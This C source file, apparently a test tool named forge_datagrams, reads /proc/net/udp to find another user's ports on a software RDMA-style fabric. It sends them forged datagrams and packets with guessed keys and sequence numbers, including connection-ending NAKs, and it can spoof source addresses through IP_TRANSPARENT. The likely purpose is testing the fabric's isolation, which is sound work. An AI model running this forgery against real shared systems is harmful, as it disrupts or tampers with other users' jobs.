/* Sends datagrams with right headers into the soft fabric's ports of another user's job: what anybody can learn (which
 * ports there are, from /proc/net/udp) or guess (Q_Key, packet numbers) is right in them.
 *
 * usage: forge_datagrams UID BURSTS. Each burst goes to every port of the user's in 127.77.*, in the name of every
 * other one: from sockets that are not bound to those addresses, and in the name of the sockets that they are from.
 * Prints how many datagrams that were; 1 when there was no port. forge_datagrams spoof NET BURSTS LID:QPN... From
 * another host of the network, whose root may send from any address: to each of these, in the name and from the address
 * of each other one, with and without tags. */
#include <arpa/inet.h>
#include <endian.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { MOST_PORTS = 64, RESERVED = 65535, PAYLOAD = 256, UCX_QKEY = 0x1ee7a330, NUMBERS = 8, TAG = 24 };

struct port {
    uint16_t lid, qpn;
};

/* docs/internals/soft-fabric.md, soft_wire.h */
struct datagram {
    uint32_t magic, destination, qkey, source;
    uint16_t lid, pkey;
    uint32_t immediate;
    uint8_t flags, level, hops, reserved;
    uint32_t flow;
    uint8_t payload[PAYLOAD];
};

/* soft_rc_wire.h */
struct packet {
    uint32_t magic, destination, source;
    uint16_t lid;
    uint8_t opcode, flags;
    uint32_t psn, key;
    uint64_t address;
    uint32_t length, immediate;
    uint8_t payload[PAYLOAD];
};

static uint32_t fabric = 0x7f4d0000u; /* 127.77.0.0 */
static int tagged;
static long sent;
static unsigned base; /* of the packet numbers that are tried */

static int find_ports(unsigned uid, struct port *ports)
{
    char line[512];
    int count = 0;
    FILE *file = fopen("/proc/net/udp", "r");
    if (!file) {
        perror("/proc/net/udp");
        exit(2);
    }
    while (count < MOST_PORTS && fgets(line, sizeof line, file)) {
        unsigned address, number, owner;
        if (sscanf(line, " %*d: %8X:%4X %*X:%*X %*X %*X:%*X %*X:%*X %*X %u", &address, &number, &owner) == 3 &&
            owner == uid && (ntohl(address) & 0xffff0000u) == fabric && number != RESERVED)
            ports[count++] = (struct port){(uint16_t)ntohl(address), (uint16_t)number};
    }
    fclose(file);
    return count;
}

static void deliver(int fd, struct port to, const void *bytes, size_t size)
{
    struct sockaddr_in address = {
        .sin_family = AF_INET, .sin_port = htons(to.qpn), .sin_addr.s_addr = htonl(fabric | to.lid)};
    sent += sendto(fd, bytes, size, 0, (struct sockaddr *)&address, sizeof address) > 0;
}

/* A tag is behind the header. */
static void deliver_tagged(int fd, struct port to, uint8_t *bytes, size_t header, size_t size)
{
    uint8_t all[sizeof(struct packet) + TAG];
    if (!tagged) {
        deliver(fd, to, bytes, size);
        return;
    }
    memcpy(all, bytes, header);
    for (int i = 0; i < TAG; i++)
        all[header + (size_t)i] = (uint8_t)rand();
    memcpy(all + header + TAG, bytes + header, size - header);
    deliver(fd, to, all, size + TAG);
}

static void fill(uint8_t *at)
{
    for (int i = 0; i < PAYLOAD; i++)
        at[i] = (uint8_t)(i % 4 == 2 || rand() % 2 ? 0 : rand());
}

static void forge(int fd, struct port from, struct port to)
{
    struct datagram datagram = {.magic = htonl(tagged ? 0x55445431 : 0x55444631),
                                .destination = htonl(to.qpn),
                                .qkey = htonl(UCX_QKEY),
                                .source = htonl(from.qpn),
                                .lid = htons(from.lid),
                                .pkey = 0xffff,
                                .flags = (uint8_t)(rand() % 4)};
    struct packet packet = {.magic = htonl(tagged ? 0x55444354 : 0x55444352),
                            .destination = htonl(to.qpn),
                            .source = htonl(from.qpn),
                            .lid = htons(from.lid)};
    fill(datagram.payload);
    fill(packet.payload);
    deliver_tagged(fd, to, (uint8_t *)&datagram, sizeof datagram - PAYLOAD, sizeof datagram - (size_t)rand() % PAYLOAD);
    for (unsigned number = 0; number < NUMBERS; number++) {
        packet.opcode = (uint8_t)(rand() % 9);
        packet.flags = (uint8_t)(rand() % 16);
        packet.psn = htonl((base + number) & 0xffffff);
        packet.key = htonl(packet.opcode == 8 ? 1u + (unsigned)rand() % 3
                                              : (unsigned)rand()); /* of a NAK its code: the connection is to end */
        packet.length = htonl((unsigned)rand() % PAYLOAD);
        deliver_tagged(fd, to, (uint8_t *)&packet, sizeof packet - PAYLOAD, sizeof packet - (size_t)rand() % PAYLOAD);
    }
}

/* A socket of our own, at any free address of the fabric. */
static int own_socket(struct port *own)
{
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    for (int tries = 0; tries < 1000; tries++) {
        *own = (struct port){(uint16_t)(0xa001 + rand() % 0x1000), (uint16_t)(1024 + rand() % 60000)};
        struct sockaddr_in address = {
            .sin_family = AF_INET, .sin_port = htons(own->qpn), .sin_addr.s_addr = htonl(fabric | own->lid)};
        if (!bind(fd, (struct sockaddr *)&address, sizeof address))
            return fd;
    }
    perror("bind");
    exit(2);
}

static int socket_at(struct port port)
{
    int fd = socket(AF_INET, SOCK_DGRAM, 0), one = 1;
    struct sockaddr_in address = {
        .sin_family = AF_INET, .sin_port = htons(port.qpn), .sin_addr.s_addr = htonl(fabric | port.lid)};
    if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_TRANSPARENT, &one, sizeof one) ||
        bind(fd, (struct sockaddr *)&address, sizeof address)) {
        perror("a socket at somebody else's address");
        exit(2);
    }
    return fd;
}

static int spoof(int bursts, int count, char **names)
{
    struct port ports[MOST_PORTS];
    int sockets[MOST_PORTS];
    for (int i = 0; i < count; i++) {
        if (i == MOST_PORTS || sscanf(names[i], "%hu:%hu", &ports[i].lid, &ports[i].qpn) != 2)
            exit(64);
        sockets[i] = socket_at(ports[i]);
    }
    for (int i = 0; i < bursts; i++, base += NUMBERS)
        for (int from = 0; from < count; from++)
            for (int to = 0; to < count; to++)
                for (tagged = 0; tagged < 2; tagged++)
                    forge(sockets[from], ports[from], ports[to]);
    printf("%ld datagrams\n", sent);
    return 0;
}

int main(int count, char **words)
{
    unsigned high, low;
    if (count > 4 && !strcmp(words[1], "spoof") && sscanf(words[2], "%u.%u", &high, &low) == 2) {
        fabric = high << 24 | low << 16;
        return spoof(atoi(words[3]), count - 4, words + 4);
    }
    struct port ports[MOST_PORTS], own;
    unsigned uid = count > 1 ? (unsigned)atoi(words[1]) : 0;
    int bursts = count > 2 ? atoi(words[2]) : 1, found = 0;
    srand((unsigned)getpid() ^ (unsigned)time(NULL));
    int unbound = socket(AF_INET, SOCK_DGRAM, 0), bound = own_socket(&own);
    for (int i = 0; i < bursts; i++, base += NUMBERS) {
        found = find_ports(uid, ports);
        for (int to = 0; to < found; to++) {
            for (int from = 0; from < found; from++) {
                forge(unbound, ports[from], ports[to]);
                forge(bound, ports[from], ports[to]);
            }
            forge(bound, own, ports[to]);
        }
    }
    printf("%ld datagrams to %d ports\n", sent, found);
    return found ? 0 : 1;
}
